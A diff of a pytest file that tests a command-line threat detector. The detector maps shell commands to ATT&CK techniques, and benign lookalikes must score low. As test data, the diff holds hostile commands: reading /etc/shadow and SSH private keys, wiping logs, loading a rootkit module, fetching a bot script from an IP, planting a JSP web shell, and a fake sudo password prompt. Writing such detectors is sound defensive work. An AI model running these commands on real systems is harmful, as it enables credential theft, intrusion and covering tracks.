@@ -273,7 +273,7 @@ def test_downloads_name_the_files_they_save(line: str, saved: tuple[str, ...]) -
     ("sudo -u www nohup python3 -m http.server 80", "/etc", 0.5, "python serves /etc over the network"),
     ("ruby -run -e httpd . -p 8000", "/home/u/.ssh", 0.5, "ruby serves /home/u/.ssh over the network"),
     ("php -S 0.0.0.0:8080 -t /", "/srv", 0.5, "php serves / over the network"),
-    ("busybox httpd -f -p 8080 -h /var/backups", "/", 0.5, "busybox serves /var/backups over the network"),
+    ("busybox httpd -f -p 8080 -h /var/backups", "/", 0.5, "httpd serves /var/backups over the network"),
     ("python3 -m http.server", "/home/u/site", 0.2, "python serves a directory over the network"),
     ("php -S 127.0.0.1:8000", "", 0.2, "php serves a directory over the network"),  # no cwd: not judged as "/"
     ("python3 -m http.server", "/etcetera", 0.2, "python serves a directory over the network"),
@@ -700,3 +700,65 @@ def test_containers_libraries_encryption_and_captures_are_named(line: str, techn
 ])
 def test_their_everyday_uses_stay_weak(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("line", "technique", "weight"), [
+    ("getent shadow", "T1003.008", 0.6),
+    ("bash +o history", "T1070.003", 0.5),
+    ("find /var/log -type f -name *.log -exec truncate -s0 {} +", "T1070.002", 0.45),
+    ("find /var/log -type f -name *.log -delete", "T1070.002", 0.45),
+    ("/lib64/ld-linux-x86-64.so.2 /tmp/.bin", "T1218", 0.45),
+    ("/lib64/ld-linux-x86-64.so.2 /tmp/.bin", "T1204.002", 0.5),  # and what it runs, judged as if run
+    ("systemd-run --user --scope /dev/shm/.agent", "T1204.002", 0.5),
+    ("systemd-run --on-calendar hourly /usr/local/bin/sync", "T1053.006", 0.4),  # a timer stays one
+    ("modprobe -f reptile_module", "T1547.006", 0.45),
+    ("make -C /lib/modules/6.1.0-18-amd64/build M=/dev/shm/.r modules", "T1547.006", 0.5),
+    ("dbus-send --system --dest=org.freedesktop.Accounts --type=method_call /org/freedesktop/Accounts "
+     "org.freedesktop.Accounts.CreateUser string:boris string:Boris int32:1", "T1136.001", 0.55),
+    ("kill -63 0", "T1014", 0.5),
+    ("busybox tftp -g -r bot.sh -l /tmp/.b 198.51.100.7", "T1105", 0.35),  # an applet is judged as its program
+    ("cp /tmp/shell.jsp /opt/tomcat/webapps/ROOT/status.jsp", "T1505.003", 0.5),
+    ("cat /home/*/.ssh/id_*", "T1552.004", 0.5),
+])
+def test_programs_started_past_their_wrappers_and_stores_read_sideways_are_named(line: str, technique: str,
+                                                                                 weight: float) -> None:
+    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("body", "technique", "weight"), [
+    ("read -s -p '[sudo] password for admin: ' pw; echo $pw >> /tmp/.p", "T1056.002", 0.6),
+    ("echo 'AddType application/x-httpd-php .jpg' > /var/www/html/uploads/.htaccess", "T1505.003", 0.25),
+])
+def test_fake_prompts_and_server_settings_in_scripts_are_named(body: str, technique: str, weight: float) -> None:
+    found = {e.technique: e.weight for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body)))}
+    assert found.get(technique, 0) >= weight, found
+    plain = "read -s -p 'Database password: ' PW; export PW"
+    assert not assess(ProcessEvent("sh", f"sh -c {plain}", ("sh", "-c", plain)))
+
+
+def test_a_program_started_under_another_name_is_masquerading() -> None:
+    body = "exec -a '/usr/sbin/cron -f' /var/tmp/.c/c"
+    found = {e.technique: e.weight for e in assess(ProcessEvent("bash", f"bash -c {body}", ("bash", "-c", body)))}
+    assert found.get("T1036", 0) >= 0.5 and found.get("T1204.002", 0) >= 0.5, found
+
+
+@pytest.mark.parametrize("line", [
+    "getent passwd deploy", "getent hosts db.internal", "bash -o pipefail -c true",
+    "find /var/log -name *.gz -mtime +30 -delete", "find /var/log/nginx -name *.gz -delete",
+    "truncate -s0 /var/log/*.gz", "systemd-run --unit backup /usr/bin/rsync -a /srv /backup",
+    "systemd-run --scope -p MemoryMax=1G make -j4", "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/python3",
+    "/lib64/ld-linux-x86-64.so.2 /usr/bin/python3",  # what ldd runs
+    "modprobe nf_conntrack", "make -C /lib/modules/6.1.0-18-amd64/build M=/home/admin/src/drv modules",
+    "busctl status", "kill -HUP 1", "kill -s 15 4242", "busybox ls /", "cat ~/.ssh/id_*.pub",
+    "cp /srv/release/index.php /var/www/html/index.php",
+    "gdbus introspect --system --dest org.freedesktop.Accounts --object-path /org/freedesktop/Accounts",
+])
+def test_their_everyday_neighbours_stay_weak(line: str) -> None:
+    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("path", "fileless"), [("/proc/self/fd/3", True), ("/dev/fd/7", True),
+                                                ("/proc/4242/fd/5", True), ("/proc/self/exe", False)])
+def test_a_program_run_from_a_file_descriptor_has_no_file_behind_it(path: str, fileless: bool) -> None:
+    found = {e.technique for e in assess(ProcessEvent("3", path, (path,), executable_path=path))}
+    assert ("T1620" in found) == fileless, found
